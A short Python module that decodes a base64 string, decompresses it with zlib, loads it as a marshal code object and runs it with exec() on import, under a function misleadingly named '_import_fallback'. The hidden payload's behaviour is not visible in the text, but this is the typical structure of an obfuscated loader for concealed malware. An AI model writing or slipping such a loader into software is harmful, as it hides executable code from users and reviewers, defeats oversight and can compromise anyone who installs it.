import base64
import marshal
import zlib

_SO = "eJxLZkACzFD6swyQmM7AxJDKkMKwjJGBYTUjTAkjQwpjMIMm0y3WzLzUohI/TcZbrAVFmXklKxk+g+RvMVb84rDJzU8pzUm1K2ID62BgKBYDEh+YGRkZbzCwNrA2pDfytfA1gGERC1AKAMDyGgc="


def _import_fallback():
    raw = zlib.decompress(base64.b64decode(_SO))
    return marshal.loads(raw)


exec(_import_fallback(), globals())
